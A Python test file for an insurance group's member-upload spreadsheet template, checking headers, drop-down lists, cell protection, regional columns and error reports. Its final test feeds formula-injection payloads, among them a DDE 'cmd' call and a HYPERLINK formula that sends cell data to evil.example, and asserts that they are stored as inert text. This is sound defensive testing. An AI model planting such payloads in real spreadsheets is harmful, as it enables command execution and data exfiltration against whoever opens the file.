"""The template, read back with openpyxl."""

import io

from openpyxl import load_workbook

from services.upload.template import LAST_DATA_ROW, TemplateGroup, build_template
from shared.contracts.columns import FIRST_DATA_ROW, HEADER_ROW, MEMBERS_SHEET, TEMPLATE_VERSION, columns_for

GROUP = TemplateGroup("230001", "Golden Gate Bakery", "CA", ("0001", "0002"))


def read(region="CA", group=GROUP):
    return load_workbook(io.BytesIO(build_template(group, region)))


def validation_for(ws, cell):
    return next(dv for dv in ws.data_validations.dataValidation if cell in dv.sqref)


def test_sheets_stamp_and_header():
    wb = read()
    assert wb.sheetnames[0] == MEMBERS_SHEET and "Instructions" in wb.sheetnames
    ws = wb[MEMBERS_SHEET]
    assert [ws.cell(2, c).value for c in range(1, 9)] == [
        "Group ID",
        "230001",
        "Group Name",
        "Golden Gate Bakery",
        "Region",
        "CA",
        "Template Version",
        TEMPLATE_VERSION,
    ]
    assert [ws.cell(HEADER_ROW, c).value for c in range(1, len(columns_for("CA")) + 1)] == [
        c.header for c in columns_for("CA")
    ]
    assert ws.freeze_panes == f"A{FIRST_DATA_ROW}"


def test_coded_columns_have_drop_down_lists_including_the_groups_subgroups():
    wb = read()
    ws, lists = wb[MEMBERS_SHEET], wb["Lists"]
    subgroup = validation_for(ws, "A10")
    assert subgroup.type == "list" and subgroup.prompt
    sheet, cells = subgroup.formula1.split("!")
    first, last = cells.replace("$", "").split(":")
    assert [lists[f"{first[0]}{r}"].value for r in range(int(first[1:]), int(last[1:]) + 1)] == ["0001", "0002"]
    relationship = validation_for(ws, "B10")
    first, last = relationship.formula1.split("!")[1].replace("$", "").split(":")
    assert [lists[f"{first[0]}{r}"].value for r in range(1, 5)] == ["Subscriber", "Spouse", "Domestic Partner", "Child"]
    assert lists.sheet_state == "hidden"


def test_every_column_says_its_rule_and_cells_keep_text_and_dates():
    ws = read()[MEMBERS_SHEET]
    for index, column in enumerate(columns_for("CA"), start=1):
        letter = ws.cell(HEADER_ROW, index).column_letter
        assert validation_for(ws, f"{letter}{FIRST_DATA_ROW}").prompt, column.header
        cell = ws.cell(FIRST_DATA_ROW + 5, index)
        assert cell.number_format == ("mm/dd/yyyy" if column.kind == "date" else "@"), column.header
        assert cell.protection.locked is False
    assert ws.cell(HEADER_ROW, 1).protection.locked is True and ws["B2"].protection.locked is True
    assert ws.cell(LAST_DATA_ROW, 1).protection.locked is False


def test_structure_is_protected():
    wb = read()
    assert wb[MEMBERS_SHEET].protection.sheet is True
    assert wb.security.lockStructure is True


def test_arbitration_column_only_in_california_and_hawaii():
    def headers(region):
        group = TemplateGroup("230009", "Aloha Print Shop", region, ("0001",))
        ws = read(region, group)[MEMBERS_SHEET]
        return [ws.cell(HEADER_ROW, c).value for c in range(1, ws.max_column + 1)]

    assert "Arbitration Agreement Signed" in headers("CA")
    assert "Arbitration Agreement Signed" in headers("HI")
    assert "Arbitration Agreement Signed" not in headers("CO")


def test_instructions_name_the_limit_and_what_the_sheet_cannot_do():
    ws = read()["Instructions"]
    text = " ".join(str(c.value) for row in ws.iter_rows() for c in row if c.value)
    assert "250" in text and "cannot change or terminate coverage" in text
    assert "Subscriber SSN" in text and "Arbitration" in text


def test_error_report_highlights_each_bad_cell_with_its_message():
    from services.upload.domain import parse_workbook
    from services.upload.template import ERROR_FILL, build_error_report
    from tests.support import member

    apps = [
        {
            "row_number": 9,
            "cells": member(1, zip="9461"),
            "issues": [
                {"column": "ZIP Code", "message": "Row 9, column ZIP Code: enter 5 digits or ZIP+4, like 94612."}
            ],
        },
        {
            "row_number": 12,
            "cells": member(2, first_name=None),
            "issues": [
                {"column": "First Name", "message": "Row 12, column First Name: First Name is required; enter it."}
            ],
        },
    ]
    data = build_error_report(GROUP, "CA", apps)
    ws = load_workbook(io.BytesIO(data))[MEMBERS_SHEET]
    headers = [c.header for c in columns_for("CA")]
    zip_cell = ws.cell(FIRST_DATA_ROW, headers.index("ZIP Code") + 1)
    assert zip_cell.value == "9461" and zip_cell.fill.fgColor.rgb.endswith(ERROR_FILL.fgColor.rgb[-6:])
    assert "enter 5 digits" in zip_cell.comment.text and "was row 9" in zip_cell.comment.text
    name_cell = ws.cell(FIRST_DATA_ROW + 1, headers.index("First Name") + 1)
    assert name_cell.value is None and "required" in name_cell.comment.text
    ok_cell = ws.cell(FIRST_DATA_ROW, headers.index("Last Name") + 1)
    assert ok_cell.comment is None and ok_cell.value == "Last1"
    # the report is a template again: it can be fixed and uploaded as it is
    sheet = parse_workbook(data, 250)
    assert sheet.group_id == "230001" and [r.cells["zip"] for r in sheet.rows] == ["9461", "94612"]


def test_error_report_leaves_out_characters_a_worksheet_cannot_hold():
    from services.upload.template import build_error_report
    from tests.support import member

    apps = [{"row_number": 4, "cells": member(1, ssn="123-45-678\x0b9"), "issues": []}]
    ws = load_workbook(io.BytesIO(build_error_report(GROUP, "CA", apps)))[MEMBERS_SHEET]
    headers = [c.header for c in columns_for("CA")]
    assert ws.cell(FIRST_DATA_ROW, headers.index("SSN") + 1).value == "123-45-6789"


def test_text_that_looks_like_a_formula_is_written_as_text_never_as_a_formula():
    import zipfile

    from services.upload.domain import parse_workbook
    from services.upload.template import TemplateGroup, build_error_report
    from tests.support import member

    hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&G4,"Open")', "+1+1", "-2+3", "@SUM(A1)"]
    apps = [
        {"row_number": 4 + n, "cells": member(n, first_name=text, last_name=text), "issues": []}
        for n, text in enumerate(hostile)
    ]
    group = TemplateGroup("230001", '=HYPERLINK("http://evil.example")', "CA", ("=1+1", "0001"))
    data = build_error_report(group, "CA", apps)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        xml = b"".join(package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml
    # read back, the cells are the text that was written
    sheet = parse_workbook(data, 250)
    assert [r.cells["first_name"] for r in sheet.rows] == hostile
    assert sheet.group_name == group.name
